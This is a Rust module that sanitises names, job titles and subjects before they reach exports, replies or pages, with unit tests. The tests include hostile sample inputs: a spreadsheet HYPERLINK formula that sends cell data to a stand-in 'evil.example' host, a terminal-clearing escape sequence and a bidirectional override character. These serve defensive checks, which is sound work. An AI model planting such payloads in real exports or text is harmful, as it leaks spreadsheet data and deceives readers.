//! Text that reaches a reply, an export or a page, made safe once (issue 13).
//!
//! - [`clean`]: control characters (C0, C1, DEL), bidirectional overrides and isolates
//!   (U+202A–U+202E, U+2066–U+2069, and the marks U+200E/U+200F/U+061C) and zero-width
//!   characters (U+200B–U+200D, U+2060, U+FEFF) removed, whitespace collapsed. A name with
//!   `ESC [2J` would clear a terminal reading the export; one with U+202E would show reversed.
//! - [`name_problem`]: why a person's name (or job title) cannot be stored at all: a spreadsheet
//!   formula (`=`, `+`, `-`, `@` first: CSV injection, OWASP), or longer than [`MAX_NAME_CHARS`].
//! - [`csv_cell`]: a CSV cell a spreadsheet will not run as a formula (`'` before it), for every
//!   CSV postroom writes (the audit export, the directory export).
//! - [`clip`]: at most N characters, with `…` when cut (reply subjects: RFC 5322 §2.1.1 lines
//!   are 998 characters at most).

use std::borrow::Cow;

/// The longest name (or job title) stored.
pub const MAX_NAME_CHARS: usize = 100;

/// Whether a character is never kept in a name, a title or a subject.
pub fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{200B}'..='\u{200F}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2060}'..='\u{2069}'
                | '\u{061C}'
                | '\u{FEFF}'
        )
}

/// The text without unsafe characters, runs of whitespace as one space, trimmed.
pub fn clean(s: &str) -> String {
    // Most text is clean already: one pass to see, and one copy. `directory import` cleans two
    // values of each of millions of rows, and the three allocations below were a tenth of its
    // CPU (README, Performance, change 34).
    if is_clean(s) {
        return s.to_owned();
    }
    let kept: String = s
        .chars()
        .map(|c| if c.is_whitespace() { ' ' } else { c })
        .filter(|c| !is_unsafe(*c))
        .collect();
    kept.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Whether [`clean`] leaves the text as it is: no unsafe character, and no whitespace but
/// single spaces between words.
fn is_clean(s: &str) -> bool {
    // At the start, a space would be leading.
    let mut after_space = true;
    for c in s.chars() {
        if c == ' ' {
            if after_space {
                return false;
            }
            after_space = true;
        } else if c.is_whitespace() || is_unsafe(c) {
            return false;
        } else {
            after_space = false;
        }
    }
    s.is_empty() || !after_space
}

/// Why a name (already [`clean`]ed) cannot be an account's name; `None` when it can.
pub fn name_problem(name: &str) -> Option<String> {
    if name.starts_with(['=', '+', '-', '@']) {
        return Some(format!(
            "it starts with `{}`, which a spreadsheet would run as a formula",
            name.chars().next().unwrap_or('=')
        ));
    }
    let n = name.chars().count();
    if n > MAX_NAME_CHARS {
        return Some(format!(
            "it is {n} characters long; names of at most {MAX_NAME_CHARS} are kept"
        ));
    }
    None
}

/// A CSV cell a spreadsheet will not run as a formula: a leading `=`, `+`, `-`, `@`, tab or
/// carriage return gets a `'` before it.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// At most `max` characters: cut with `…` when longer.
pub fn clip(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        return s.to_owned();
    }
    let mut cut: String = s.chars().take(max.saturating_sub(1)).collect();
    cut.push('…');
    cut
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn control_bidi_and_zero_width_characters_are_removed() {
        assert_eq!(clean("Eve\u{1b}[2J\u{7}\u{8} Evil"), "Eve[2J Evil");
        assert_eq!(clean("Ann\u{202E}eknaB"), "AnneknaB");
        assert_eq!(clean("Zo\u{200B}ë\u{FEFF}  Ångström\t"), "Zoë Ångström");
        assert_eq!(clean("a\u{85}b\u{9F}c\u{7F}"), "a bc");
        assert_eq!(clean("\u{2066}x\u{2069}"), "x");
    }

    #[test]
    fn formulas_and_overlong_names_are_refused() {
        assert!(name_problem("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")").is_some());
        assert!(name_problem("+44 Evil").is_some());
        assert!(name_problem("@SUM(A1)").is_some());
        assert!(name_problem(&"a".repeat(101)).is_some());
        assert_eq!(name_problem("Mary-Jane O'Neill"), None);
    }

    #[test]
    fn csv_cells_are_defused_and_subjects_clipped() {
        assert_eq!(csv_cell("=1+1"), "'=1+1");
        assert_eq!(csv_cell("-2"), "'-2");
        assert_eq!(csv_cell("Tom"), "Tom");
        assert_eq!(clip("abcdef", 4), "abc…");
        assert_eq!(clip("abc", 4), "abc");
        assert_eq!(clip(&"x".repeat(200_000), 200).chars().count(), 200);
    }
}
